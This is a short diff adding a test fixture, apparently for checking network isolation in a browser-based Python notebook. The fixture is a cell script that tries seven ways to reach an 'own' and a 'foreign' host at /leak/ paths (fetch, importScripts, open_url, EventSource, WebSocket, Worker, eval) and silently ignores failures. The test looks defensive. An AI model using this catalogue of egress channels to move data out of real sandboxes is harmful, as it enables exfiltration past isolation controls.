@@ -318,3 +318,18 @@ def unfolded(page):
     if page.locator("details.brief-controls:not([open])").count():
         page.get_by_text("Check this page").click()
     return page
+
+
+LEAKS = """import js, pyodide.http
+for host in (OWN, FOREIGN):
+    ways = {
+        "fetch": js.fetch, "script": js.importScripts, "file": pyodide.http.open_url, "events": js.EventSource.new,
+        "socket": lambda address: js.WebSocket.new(address.replace("http", "ws")), "worker": js.Worker.new,
+        "text": lambda address: js.eval(f"fetch('{address}')"),
+    }
+    for name, way in ways.items():
+        try:
+            way(f"{host}/leak/{name}")
+        except BaseException:
+            pass"""
+"""Code of a cell by which something might leave the machine."""
